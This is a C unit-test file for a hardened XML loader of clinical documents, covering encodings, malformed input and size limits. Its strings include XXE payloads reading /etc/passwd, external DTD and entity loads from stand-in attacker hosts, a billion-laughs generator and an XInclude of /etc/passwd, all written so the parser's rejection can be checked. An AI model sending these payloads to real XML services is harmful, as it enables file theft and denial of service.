/* Unit tests of hardened XML loading (parsers/xml.c): the XML rows of the
 * security catalogue and real-world input hygiene. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <cmocka.h>
#include <iconv.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>

#include "cdx/buf.h"
#include "cdx/common.h"
#include "cdx/xml.h"

static const char DOC[] = "<ClinicalDocument xmlns=\"urn:hl7-org:v3\"><id root=\"2.25.1\"/>"
                          "<title>진료의뢰서</title></ClinicalDocument>";

static int parse(const char *data, size_t len, char *code, size_t codelen, xmlDocPtr *doc)
{
    cdx_diag_t d;
    cdx_diag_init(&d);
    int rc = cdx_xml_parse(data, len, &d, doc);
    cdx_strlcpy(code, d.code, codelen);
    if (rc != 0)
        assert_true(cdx_diag_rejected(&d));
    cdx_diag_cleanup(&d);
    return rc;
}

static void expect_code(const char *data, size_t len, const char *want)
{
    char code[48];
    xmlDocPtr doc = NULL;
    int rc = parse(data, len, code, sizeof code, &doc);
    if (rc == 0)
        fail_msg("accepted, wanted %s", want);
    assert_null(doc);
    assert_string_equal(code, want);
}

static void expect_ok(const char *data, size_t len)
{
    char code[48];
    xmlDocPtr doc = NULL;
    assert_int_equal(parse(data, len, code, sizeof code, &doc), 0);
    assert_non_null(doc);
    xmlNodePtr root = xmlDocGetRootElement(doc);
    assert_string_equal((const char *)root->name, "ClinicalDocument");
    xmlFreeDoc(doc);
}

static void test_plain_and_hygiene(void **state)
{
    (void)state;
    expect_ok(DOC, strlen(DOC));
    /* BOM, CRLF, XML declaration, stylesheet PI. */
    char buf[1024];
    int n = snprintf(buf, sizeof buf,
                     "\xEF\xBB\xBF<?xml version=\"1.0\" encoding=\"UTF-8\"?>\r\n"
                     "<?xml-stylesheet type=\"text/xsl\" href=\"http://attacker/x.xsl\"?>\r\n%s\r\n",
                     DOC);
    cdx_diag_t d;
    cdx_diag_init(&d);
    xmlDocPtr doc = NULL;
    assert_int_equal(cdx_xml_parse(buf, (size_t)n, &d, &doc), 0);
    assert_int_equal(d.nissues, 1);
    assert_string_equal(d.issues[0].rule, "XML-PI");
    xmlFreeDoc(doc);
    cdx_diag_cleanup(&d);
}

static size_t convert(const char *to, const char *in, char *out, size_t outlen)
{
    iconv_t cd = iconv_open(to, "UTF-8");
    assert_true(cd != (iconv_t)-1);
    char *ip = (char *)in, *op = out;
    size_t il = strlen(in), ol = outlen;
    assert_true(iconv(cd, &ip, &il, &op, &ol) != (size_t)-1);
    iconv_close(cd);
    return outlen - ol;
}

static void test_encodings(void **state)
{
    (void)state;
    char in[512], out[2048];
    /* EUC-KR declared and encoded: Korean text must come back as UTF-8. */
    snprintf(in, sizeof in, "<?xml version=\"1.0\" encoding=\"EUC-KR\"?>%s", DOC);
    size_t n = convert("EUC-KR", in, out, sizeof out);
    char code[48];
    xmlDocPtr doc = NULL;
    assert_int_equal(parse(out, n, code, sizeof code, &doc), 0);
    xmlChar *text = xmlNodeGetContent(xmlDocGetRootElement(doc));
    assert_non_null(strstr((const char *)text, "진료의뢰서"));
    xmlFree(text);
    xmlFreeDoc(doc);
    /* UTF-16 with a BOM (iconv's UTF-16 writes one). */
    snprintf(in, sizeof in, "<?xml version=\"1.0\" encoding=\"UTF-16\"?>%s", DOC);
    n = convert("UTF-16", in, out, sizeof out);
    expect_ok(out, n);
    /* An encoding nobody can read. */
    snprintf(in, sizeof in, "<?xml version=\"1.0\" encoding=\"X-NO-SUCH-CHARSET\"?>%s", DOC);
    expect_code(in, strlen(in), "XML_ENCODING");
    /* Invalid UTF-8 bytes. */
    const char bad[] = "<ClinicalDocument xmlns=\"urn:hl7-org:v3\">\xC3\x28</ClinicalDocument>";
    expect_code(bad, sizeof bad - 1, "XML_MALFORMED");
}

static void test_doctype_attacks(void **state)
{
    (void)state;
    unsigned long before = cdx_xml_denied_loads();
    const char *xxe = "<?xml version=\"1.0\"?><!DOCTYPE ClinicalDocument [<!ENTITY x SYSTEM "
                      "\"file:///etc/passwd\">]><ClinicalDocument xmlns=\"urn:hl7-org:v3\">&x;"
                      "</ClinicalDocument>";
    expect_code(xxe, strlen(xxe), "XML_DTD_FORBIDDEN");
    const char *ext = "<!DOCTYPE ClinicalDocument SYSTEM \"http://attacker.invalid/x.dtd\">"
                      "<ClinicalDocument xmlns=\"urn:hl7-org:v3\"/>";
    expect_code(ext, strlen(ext), "XML_DTD_FORBIDDEN");
    const char *pe = "<!DOCTYPE d [<!ENTITY % p SYSTEM \"http://attacker.invalid/p\"> %p;]><d/>";
    expect_code(pe, strlen(pe), "XML_DTD_FORBIDDEN");
    /* The loader was never asked for anything. */
    assert_int_equal(cdx_xml_denied_loads(), before);

    /* Billion laughs and quadratic blowup: refused fast, at the DOCTYPE. */
    cdx_buf_t b;
    cdx_buf_init(&b, 8u << 20);
    cdx_buf_puts(&b, "<!DOCTYPE lolz [<!ENTITY lol \"lol\">");
    for (int i = 1; i <= 10; i++) {
        cdx_buf_printf(&b, "<!ENTITY lol%d \"", i);
        for (int j = 0; j < 10; j++) {
            if (i == 1)
                cdx_buf_puts(&b, "&lol;");
            else
                cdx_buf_printf(&b, "&lol%d;", i - 1);
        }
        cdx_buf_puts(&b, "\">");
    }
    cdx_buf_puts(&b, "]><lolz>&lol10;</lolz>");
    clock_t t0 = clock();
    expect_code(b.data, b.len, "XML_DTD_FORBIDDEN");
    cdx_buf_reset(&b);
    cdx_buf_puts(&b, "<!DOCTYPE q [<!ENTITY a \"");
    for (int i = 0; i < 50000; i++)
        cdx_buf_puts(&b, "a");
    cdx_buf_puts(&b, "\">]><q>");
    for (int i = 0; i < 10000; i++)
        cdx_buf_puts(&b, "&a;");
    cdx_buf_puts(&b, "</q>");
    expect_code(b.data, b.len, "XML_DTD_FORBIDDEN");
    assert_true((double)(clock() - t0) / CLOCKS_PER_SEC < 0.5);
    cdx_buf_cleanup(&b);

    /* A DOCTYPE hidden in UTF-16 is found by the parser, not a byte scan. */
    char out[1024];
    size_t n = convert("UTF-16", "<!DOCTYPE d SYSTEM \"http://attacker.invalid/x.dtd\"><d/>", out,
                       sizeof out);
    expect_code(out, n, "XML_DTD_FORBIDDEN");
}

static void test_limits(void **state)
{
    (void)state;
    cdx_buf_t b;
    cdx_buf_init(&b, 64u << 20);
    for (int i = 0; i < 300; i++)
        cdx_buf_puts(&b, "<a>");
    for (int i = 0; i < 300; i++)
        cdx_buf_puts(&b, "</a>");
    expect_code(b.data, b.len, "XML_TOO_DEEP");

    cdx_buf_reset(&b);
    cdx_buf_puts(&b, "<ClinicalDocument");
    for (int i = 0; i < 100000; i++)
        cdx_buf_printf(&b, " a%d=\"1\"", i);
    cdx_buf_puts(&b, "/>");
    clock_t t0 = clock();
    expect_code(b.data, b.len, "XML_LIMIT");
    assert_true((double)(clock() - t0) / CLOCKS_PER_SEC < 0.5);

    cdx_buf_reset(&b);
    cdx_buf_puts(&b, "<");
    for (int i = 0; i < 60000; i++)
        cdx_buf_puts(&b, "n");
    cdx_buf_puts(&b, "/>");
    expect_code(b.data, b.len, "XML_LIMIT");

    /* A 1 MB attribute value is fine: bounded by the body limit. */
    cdx_buf_reset(&b);
    cdx_buf_puts(&b, "<ClinicalDocument v=\"");
    for (int i = 0; i < 1 << 20; i++)
        cdx_buf_puts(&b, "v");
    cdx_buf_puts(&b, "\"/>");
    expect_ok(b.data, b.len);
    cdx_buf_cleanup(&b);
}

static void test_malformed(void **state)
{
    (void)state;
    expect_code("", 0, "XML_EMPTY");
    expect_code("   ", 3, "XML_EMPTY");
    const char *unclosed = "<ClinicalDocument xmlns=\"urn:hl7-org:v3\"><id>";
    expect_code(unclosed, strlen(unclosed), "XML_MALFORMED");
    const char nul[] = "<ClinicalDocument>\0</ClinicalDocument>";
    expect_code(nul, sizeof nul - 1, "XML_MALFORMED");
    const char *sur = "<ClinicalDocument>&#xD800;</ClinicalDocument>";
    expect_code(sur, strlen(sur), "XML_MALFORMED");
    const char *undefined = "<ClinicalDocument>&undefined;</ClinicalDocument>";
    expect_code(undefined, strlen(undefined), "XML_MALFORMED");
    /* A UTF-8 BOM with a declaration claiming UTF-16. */
    const char *mismatch = "\xEF\xBB\xBF<?xml version=\"1.0\" encoding=\"UTF-16\"?><a/>";
    char code[48];
    xmlDocPtr doc = NULL;
    int rc = parse(mismatch, strlen(mismatch), code, sizeof code, &doc);
    if (rc == 0) {
        /* libxml2 trusts the BOM over the declaration; that is safe too. */
        xmlFreeDoc(doc);
    } else {
        assert_true(strcmp(code, "XML_MALFORMED") == 0 || strcmp(code, "XML_ENCODING") == 0);
    }
    /* The location of a malformation is reported as line:column. */
    cdx_diag_t d;
    cdx_diag_init(&d);
    const char *two = "<a>\n<b></a>";
    assert_int_equal(cdx_xml_parse(two, strlen(two), &d, &doc), CDX_EPARSE);
    assert_true(d.nissues >= 1);
    assert_string_equal(d.issues[0].location, "2:8");
    cdx_diag_cleanup(&d);
}

static void test_xinclude_not_expanded(void **state)
{
    (void)state;
    const char *xi = "<ClinicalDocument xmlns=\"urn:hl7-org:v3\" "
                     "xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include "
                     "href=\"file:///etc/passwd\" parse=\"text\"/></ClinicalDocument>";
    char code[48];
    xmlDocPtr doc = NULL;
    assert_int_equal(parse(xi, strlen(xi), code, sizeof code, &doc), 0);
    xmlChar *text = xmlNodeGetContent(xmlDocGetRootElement(doc));
    assert_null(strstr((const char *)text, "root:"));
    xmlFree(text);
    xmlNodePtr inc = xmlDocGetRootElement(doc)->children;
    assert_string_equal((const char *)inc->name, "include");
    char *path = cdx_xml_node_path(inc);
    assert_string_equal(path, "/ClinicalDocument/include");
    free(path);
    xmlFreeDoc(doc);
}

int main(void)
{
    cdx_xml_global_init();
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_plain_and_hygiene), cmocka_unit_test(test_encodings),
        cmocka_unit_test(test_doctype_attacks),   cmocka_unit_test(test_limits),
        cmocka_unit_test(test_malformed),         cmocka_unit_test(test_xinclude_not_expanded),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
